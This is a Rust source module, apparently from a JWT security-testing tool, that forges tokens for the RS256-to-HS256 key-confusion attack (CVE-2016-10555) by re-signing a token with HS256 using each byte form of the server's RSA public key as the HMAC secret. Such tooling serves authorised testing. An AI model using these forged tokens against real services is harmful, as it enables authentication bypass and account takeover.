//! RS256 → HS256 key confusion (CVE-2016-10555): `alg: HS256`, signed with the server's RSA
//! public key used as the HMAC secret, in each byte form a confused verifier might hold it.

use super::{JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::{Draft, HmacAlg};

pub(super) fn variants(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    if inputs.public_keys.is_empty() {
        return Err("no RSA public key to confuse: `public_key` gave none".to_owned());
    }
    let draft = Draft::from_token(inputs.token)?;
    Ok(inputs
        .public_keys
        .iter()
        .map(|form| {
            let forged = draft.clone().sign_hmac(HmacAlg::Hs256, &form.bytes);
            Variant::jwt(JwtAttack::KeyConfusion, Some(&form.label), forged)
        })
        .collect())
}
